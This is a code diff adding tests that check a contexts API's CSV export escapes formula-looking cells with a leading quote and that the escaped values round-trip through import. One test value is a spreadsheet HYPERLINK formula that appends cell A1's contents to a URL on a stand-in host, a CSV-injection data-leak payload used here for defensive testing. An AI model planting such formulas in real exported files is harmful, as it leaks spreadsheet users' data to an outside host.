@@ -235,6 +235,22 @@ describe('GET /contexts/export', () => {
     expect(res.body).toContain(`${unit.id},goal,${unit.content},1.0,,manual,active,${unit.created_at},,\r\n`);
   });
 
+  it('writes a cell a spreadsheet would run as a formula quoted behind a single quote', async () => {
+    const word = token();
+    const unit = await create({
+      type: 'fact',
+      content: `=HYPERLINK("http://x.test/?"&A1,"${word}")`,
+      tags: ['-x', 'y'],
+      source: '@import',
+    });
+    const quoted = await create({ type: 'fact', content: `'=already quoted ${word}` });
+    const res = await inject(app, { method: 'GET', url: '/contexts/export?format=csv' });
+    expect(res.body).toContain(
+      `${unit.id},fact,"'=HYPERLINK(""http://x.test/?""&A1,""${word}"")",1.0,"'-x,y","'@import",active,${unit.created_at},,\r\n`,
+    );
+    expect(res.body).toContain(`${quoted.id},fact,"''=already quoted ${word}",1.0,,manual,active,`);
+  });
+
   it('rejects any other format with 400 "Unsupported format"', async () => {
     const res = await inject(app, { method: 'GET', url: '/contexts/export?format=xml' });
     expect(res.statusCode).toBe(400);
@@ -571,6 +587,7 @@ describe('POST /contexts/import', () => {
       confidence: 0.1,
     });
     await create({ type: 'goal', content: `=SUM(A1) formula-looking ${token()}`, tags: [] });
+    await create({ type: 'fact', content: `'+quoted formula ${token()}`, tags: ['-minus'], source: '-source' });
     const file = await inject(app, { method: 'GET', url: '/contexts/export?format=csv' });
     const result = await importOk('roundtrip.csv', file.body, '?replace_existing=true', target);
     expect(result.skipped).toBe(0);
